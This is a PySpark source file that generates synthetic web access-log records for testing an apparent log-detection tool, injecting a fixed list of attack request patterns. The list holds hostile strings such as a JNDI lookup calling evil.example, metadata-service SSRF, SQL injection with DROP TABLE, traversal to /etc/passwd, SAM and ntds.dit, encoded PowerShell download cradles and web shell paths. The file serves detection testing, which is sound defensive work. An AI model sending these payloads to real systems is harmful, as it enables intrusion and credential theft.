"""Access-log rows from the ``events`` and ``pages`` tables, for the registered queries.

Every event becomes a request for a page; some requests carry an attack pattern instead, so that
every line rule has something to find. The same rows are described in SQL in ``oracles``.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from wardlog.functions.clock import use_utc
from wardlog.functions.text import text_array
from wardlog.lineage import spread
from wardlog.operators.normalize import normalize

AGENTS = ("Mozilla/5.0+(Windows+NT+10.0)", "curl/8.0", "sqlmap/1.7", "Nikto/2.5", "-",
          "python-requests/2.31", "antSword/v2.1")
ERROR_STATUS = (401, 403, 404, 500)
USERNAMES = ("o'brien;--", "union", "jdoe", "or+1=1")
PERIOD = 151  # requests between two uses of the same pattern

# The same requests packed into a burst: so many a second from this time on, from so many clients, most for one path, and
# once in ONCE_IN a file that nothing else asks for.
BURST_START, BURST_RATE, BURST_CLIENTS, BURST_PATH, ONCE_IN = 1_735_700_400, 40, 3, "/portal/home", 997
ONCE_PATHS = ("/archive/%d.zip", "/once/%d.aspx")

# (path, query) of requests with a pattern; "-" is an absent query.
PATTERNS = (
    ("/upload/test.aspx", "cmd=whoami"),
    ("/download.aspx", "file=%252e%252e%252fweb.config"),
    ("/search.aspx", "q=%27%20or%201%3D1--"),
    ("/login", "-"),
    ("/rdweb/pages/en-us/login.aspx", "-"),
    ("/powershell", "X-Rps-CAT=1&Email=autodiscover"),
    ("/_admin/", "-"),
    ("/_layouts/15/settings.aspx", "-"),
    ("/autodiscover/autodiscover.json", "@evil.example"),
    ("/aspnet_client/system_web/a.aspx", "-"),
    ("/jolokia/exec/type", "op=mlet"),
    ("/page.aspx", "x=%24%7bjndi%3aldap%3a%2f%2fevil.example%2fa%7d"),
    ("/page.aspx", "x=%24%7b%24%7blower%3aj%7dndi%7d"),
    ("/webtools/control/xmlrpc", "-"),
    ("/env", "v=%25systemroot%25&w=%24env:path"),
    ("/el", "x=%24%7bt(java.lang.Runtime)%7d"),
    ("/obj", "o=rO0ABXNy"),
    ("/run", "c=java.lang.ProcessBuilder"),
    ("/obf", "x=%24%7benv:x%7d&y=%24%7b::-j%7d"),
    ("/bin", "c=certutil+-urlcache&d=wmic+os"),
    ("/inc", "f=php://filter/read&g=phar://x"),
    ("/ps", "c=Net.WebClient&d=DownloadString"),
    ("/fetch", "u=http://169.254.169.254/latest/meta-data"),
    ("/tpl", "n=%7b%7b7*7%7d%7d"),
    ("/tpl", "n=%3C%25%3D+x"),
    ("/index.action", "redirect:%25%7b(1)%7d"),
    ("/people", "f=*)(uid=*))(%7c(x"),
    ("/phpmyadmin/", "-"),
    ("/wp-admin/", "-"),
    ("/backup/site.bak", "-"),
    ("/old/web.config", "-"),
    ("/actuator/env", "-"),
    ("/cgi-bin/test", "-"),
    ("/healthcheck.htm", "-"),
    ("/wp-login.php", "-"),
    ("/vendor/phpunit/x.php", "-"),
    ("/items", "id=1+UNION+SELECT+password"),
    ("/items", "id=1;+DROP+TABLE+x&s=sleep(5)"),
    ("/q", "s=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("/q", "s=%3Csvg+onload=eval(1)%3E"),
    ("/d", "p=%252e%252e%252f&q=%255c"),
    ("/d/..%2f..%2fetc/passwd", "-"),
    ("/d", "p=..%5cboot.ini"),
    ("/default.aspx::$DATA", "-"),
    ("/default.aspx%20", "-"),
    ("/file%2500.txt", "-"),
    ("/get", "f=/etc/shadow&g=ntds.dit"),
    ("/get", "f=c:\\windows\\system32\\config\\sam"),
    ("/get", "f=web.config"),
    ("/get", "f=C:/Windows/win.ini"),
    ("/minio/admin/v3", "-"),
    ("/_vti_bin/lists.asmx", "-"),
    ("/_layouts/15/spinstall0.aspx", "-"),
    ("/uploads/x.jsp", "-"),
    ("/manager/html/upload", "-"),
    ("/files/tool.zip", "-"),
    ("/media/run.exe", "-"),
    ("/site/new.aspx", "-"),
    ("/site/a.asp;.jpg", "-"),
    ("/api/upload", "-"),
    ("/attachments/1", "-"),
    ("/tmp/a.php", "-"),
    ("/x/tmp12.asp", "-"),
    ("/x/shell.aspx", "-"),
    ("/owa/form.aspx", "-"),
    ("/svc/data.svc", "exec=ipconfig&shell=1"),
    ("/cmd.exe", "-"),
    ("/help/whoami", "-"),
    ("/go", "c=powershell+-nop+-w+hidden+-enc+JAB"),
    ("/go", "c=IEX(x)&d=FromBase64String"),
    ("/fm.aspx", "action=delete&filepath=c"),
    ("/fm.asp", "x=1&dir=2"),
    ("/webshell/b374k", "-"),
    ("/a/reGeorg.ashx", "-"),
    ("/a/q8w7e6r5t4y3u2.aspx", "-"),
    ("/images/logo.ashx", "-"),
    ("/static/x.asmx", "-"),
    ("/p.aspx", "action=upload&pass=1"),
    ("/p.svc", "xcmd=1"),
    ("/plain%20name+x", "a=%zz&b=100%"),
    ("/.hidden", "-"),
    ("/dir.d/file", "-"),
    ("/Upper.ASPX", "ID=7"),
)


def _pick(values: tuple, position: Column) -> Column:
    return F.element_at(text_array(values), (position + 1).cast("int"))


def event_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    return spread(events.select("event_id", "ts", "user_id", "event_type", "value"))


def event_stream(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same rows as a stream of files, dealt to every core: a stream cannot tell how few tasks its files give."""
    schema = spark.read.parquet(f"{sf_dir}/events.parquet").schema
    return (spark.readStream.schema(schema).parquet(f"{sf_dir}/events*.parquet")
            .select("event_id", "ts", "user_id", "event_type", "value").repartition(spark.sparkContext.defaultParallelism))


def request_fields(spark: SparkSession, sf_dir: str, events: DataFrame | None = None) -> DataFrame:
    """One row per event: W3C fields as text, with event id; one equi-join, no page body read."""
    use_utc(spark)
    events = event_rows(spark, sf_dir) if events is None else events
    pages = spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", "url")
    event, kind = F.col("event_id"), F.col("event_type")
    joined = events.withColumn("page_id", event % F.lit(pages.count())).join(pages, "page_id")
    slot = event % PERIOD
    patterned = slot < len(PATTERNS)
    safe_slot = F.when(patterned, slot).otherwise(F.lit(0))
    path = F.regexp_extract("url", r"^https?://[^/]+(/[^?#]*)", 1)
    query = F.regexp_extract("url", r"\?([^#]*)", 1)
    method = (F.when(event % 50 == 7, "PUT").when(event % 50 == 13, "PROPFIND")
              .when(kind.isin("signup", "purchase"), "POST").otherwise("GET"))
    return joined.select(
        event.alias("event_id"),
        F.date_format("ts", "yyyy-MM-dd").alias("date"),
        F.date_format("ts", "HH:mm:ss").alias("time"),
        F.concat(F.lit("10.0."), F.floor(F.col("user_id") / 256).cast("string"), F.lit("."),
                 (F.col("user_id") % 256).cast("string")).alias("c-ip"),
        method.alias("cs-method"),
        F.when(patterned, _pick(tuple(p for p, _ in PATTERNS), safe_slot)).otherwise(path).alias("cs-uri-stem"),
        F.when(patterned, _pick(tuple(q for _, q in PATTERNS), safe_slot))
         .otherwise(F.when(query == "", "-").otherwise(query)).alias("cs-uri-query"),
        F.when(kind == "error", _pick(tuple(map(str, ERROR_STATUS)), event % len(ERROR_STATUS)))
         .otherwise("200").alias("sc-status"),
        _pick(AGENTS, F.col("user_id") % len(AGENTS)).alias("cs(User-Agent)"),
        F.when(event % 3 == 0, "-").otherwise("https://portal.example/start").alias("cs(Referer)"),
        F.when(event % 11 < len(USERNAMES), _pick(USERNAMES, F.when(event % 11 < len(USERNAMES), event % 11).otherwise(0)))
         .otherwise("-").alias("cs-username"),
        F.regexp_extract("url", r"^https?://([^/]+)", 1).alias("cs-host"),
        F.floor(F.col("value") * 10).cast("string").alias("time-taken"),
        F.lit("443").alias("s-port"),
    )


def raw_requests(spark: SparkSession, sf_dir: str, events: DataFrame | None = None) -> DataFrame:
    """Rows as a log source gives them, with flat fields."""
    return request_fields(spark, sf_dir, events).select(
        "*", F.lit("events").alias("log_file"), (F.col("event_id") + 1).alias("line_number"),
        F.concat_ws(" ", "date", "time", "`c-ip`", "`cs-method`", "`cs-uri-stem`").alias("raw_line")).drop("event_id")


def access_records(spark: SparkSession, sf_dir: str, zone: str = "UTC", events: DataFrame | None = None) -> DataFrame:
    """Normalised records of all events."""
    return normalize(raw_requests(spark, sf_dir, events), zone)


def burst_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Normalised records of all events, packed so densely that every keyed rule of the bundled pack has something to find."""
    raw = raw_requests(spark, sf_dir)
    event = F.col("line_number") - 1
    at = F.timestamp_seconds(F.lit(BURST_START) + F.floor(event / BURST_RATE))
    once = F.when(event % ONCE_IN == 0, F.format_string(ONCE_PATHS[0], event)).when(event % ONCE_IN == 1, F.format_string(ONCE_PATHS[1], event))
    return normalize(raw.withColumns({
        "date": F.date_format(at, "yyyy-MM-dd"), "time": F.date_format(at, "HH:mm:ss"),
        "c-ip": F.concat(F.lit("10.9.0."), (event % BURST_CLIENTS).cast("string")),
        "cs-uri-stem": F.coalesce(once, F.when(event % 4 != 0, F.lit(BURST_PATH)), F.col("cs-uri-stem"))}))
